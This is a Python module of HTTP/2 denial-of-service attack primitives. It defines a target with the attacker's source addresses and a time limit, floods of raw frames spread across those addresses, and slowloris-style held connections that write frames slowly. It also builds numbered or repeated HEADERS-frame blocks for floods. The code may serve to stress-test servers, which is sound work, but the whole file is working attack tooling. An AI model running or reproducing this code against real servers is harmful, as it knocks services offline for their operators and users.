"""What attacks are made of: a target, connections to it from addresses of the attacker's own, and floods."""

from __future__ import annotations

import asyncio
import dataclasses
import itertools
import socket
import time
from collections.abc import Callable, Iterable, Iterator, Mapping

from raw_http2 import END_HEADERS, END_STREAM, HEADERS, MAGIC, SETTINGS, RawClient, frame, settings_payload

INITIAL_WINDOW = 4
"""The setting with the bytes that the server may send on a stream before it is given more."""
_BREATH = 0.01
"""Between a connection that was refused and the next, so that a flood of frames does not become one of connections."""


def opening(settings: Mapping[int, int] | None = None) -> bytes:
    """What a client begins with."""
    return MAGIC + frame(SETTINGS, 0, 0, settings_payload(settings or {}))


def headers(stream: int, block: bytes, *, end: bool = False) -> bytes:
    """A HEADERS frame with a block that was made beforehand."""
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


class Wire(asyncio.Protocol):
    """A connection that is written to in bulk. What comes back is counted, and dropped."""

    def __init__(self) -> None:
        self.received = 0
        self.lost = asyncio.Event()
        self._writable = asyncio.Event()
        self._writable.set()
        self._transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Is asyncio's."""
        self._transport = transport
        transport.get_extra_info("socket").setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def data_received(self, data: bytes) -> None:
        """Is asyncio's."""
        self.received += len(data)

    def pause_writing(self) -> None:
        """Is asyncio's."""
        self._writable.clear()

    def resume_writing(self) -> None:
        """Is asyncio's."""
        self._writable.set()

    def connection_lost(self, error: Exception | None) -> None:
        """Is asyncio's."""
        self.lost.set()
        self._writable.set()

    async def send(self, data: bytes) -> bool:
        """Writes, and waits until the server reads; False: the connection is gone."""
        if not self.lost.is_set():
            self._transport.write(data)
        await self._writable.wait()
        await asyncio.sleep(0)  # others have their turn, also where the kernel takes everything
        return not self.lost.is_set()

    def deafen(self) -> None:
        """Nothing is read any more."""
        if not self.lost.is_set():
            self._transport.pause_reading()

    def abort(self) -> None:
        """Drops the connection, if it is not gone yet."""
        if not self.lost.is_set():
            self._transport.abort()


@dataclasses.dataclass
class Target:
    """A server under attack, and for how long.

    Attributes:
        host: of the server.
        port: for plain connections.
        tls_port: for others, if it has one.
        sources: the attacker's addresses; what is held for long comes from the first, floods from all in turn.
        seconds: how long it takes.
        complaints: what an attacker who is a client too did not get.
    """

    host: str
    port: int
    tls_port: int | None
    sources: tuple[str, ...]
    seconds: float
    complaints: list[str] = dataclasses.field(default_factory=list)
    wires: set[Wire] = dataclasses.field(default_factory=set)
    clients: list[RawClient] = dataclasses.field(default_factory=list)

    def __post_init__(self) -> None:
        self._turns = itertools.cycle(self.sources)
        self._until = time.monotonic() + self.seconds

    @property
    def left(self) -> float:
        """Seconds until it is over."""
        return max(0.0, self._until - time.monotonic())

    async def rest(self, seconds: float) -> bool:
        """Lets so much time pass, or what is left; False: it is over."""
        await asyncio.sleep(min(seconds, self.left))
        return self.left > 0

    async def wire(self, make: type[Wire] = Wire, *, tls: bool = False, spread: bool = False) -> Wire | None:
        """A connection to write to in bulk; None: it was refused. ``spread``: from the next address, else from the first."""
        source = next(self._turns) if spread else self.sources[0]
        port = self.tls_port if tls else self.port
        try:
            _, wire = await asyncio.get_running_loop().create_connection(make, self.host, port, local_addr=(source, 0))
        except OSError:
            return None
        self.wires.add(wire)
        return wire

    async def client(self) -> RawClient | None:
        """A connection whose answers are looked at, its preface sent; None: it was refused."""
        try:
            streams = await asyncio.open_connection(self.host, self.port, local_addr=(self.sources[0], 0))
        except OSError:
            return None
        client = RawClient(*streams)
        self.clients.append(client)
        client.preface()
        return client

    def drop(self, wire: Wire) -> None:
        """Closes a connection, if it is not closed yet."""
        wire.abort()
        self.wires.discard(wire)

    async def close(self) -> None:
        """Drops all connections."""
        for wire in list(self.wires):
            self.drop(wire)
        for client in self.clients:
            await client.close()


async def together(count: int, part: Callable[[], object]) -> None:
    """Runs a part of an attack so many times at once."""
    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(part())


async def pour(target: Target, wire: Wire, blocks: Iterable[bytes]) -> None:
    """Writes blocks until there are no more, the connection is gone or the attack over."""
    for block in blocks:
        if not target.left or not await wire.send(block):
            return


async def flood(target: Target, start: bytes, blocks: Callable[[], Iterable[bytes]], *, wires: int = 4) -> None:
    """Writes blocks as fast as they are taken; a connection that dies, or has written all, is followed by the next."""

    async def one() -> None:
        while target.left:
            wire = await target.wire(spread=True)
            if wire is not None:
                await pour(target, wire, itertools.chain([start], blocks()))
                target.drop(wire)
            await target.rest(_BREATH)

    await together(wires, one)


async def hold(target: Target, start: bytes, *, wires: int, then: Iterable[bytes] = (), every: float = 1.0) -> list[Wire]:
    """Opens connections that write ``start``, and keeps them; meanwhile each writes one of ``then`` after the other."""
    held = [wire for wire in [await target.wire() for _ in range(wires)] if wire is not None]
    for wire in held:
        await wire.send(start)
    for block in then:
        if not await target.rest(every):
            break
        for wire in held:
            await wire.send(block)
    await target.rest(target.left)
    return held


def numbered(make: Callable[[int], bytes], *, at_once: int, first: int = 1) -> Callable[[], Iterator[bytes]]:
    """Blocks for a flood: what ``make`` gives for one stream after the other, so many in a block."""

    def blocks() -> Iterator[bytes]:
        for start in itertools.count(first, 2 * at_once):
            yield b"".join(make(stream) for stream in range(start, start + 2 * at_once, 2))

    return blocks


def repeated(block: bytes, *, at_least: int = 65536) -> Callable[[], Iterator[bytes]]:
    """Blocks for a flood: always the same, as often as makes a good write."""
    whole = block * max(1, at_least // len(block))
    return lambda: itertools.repeat(whole)
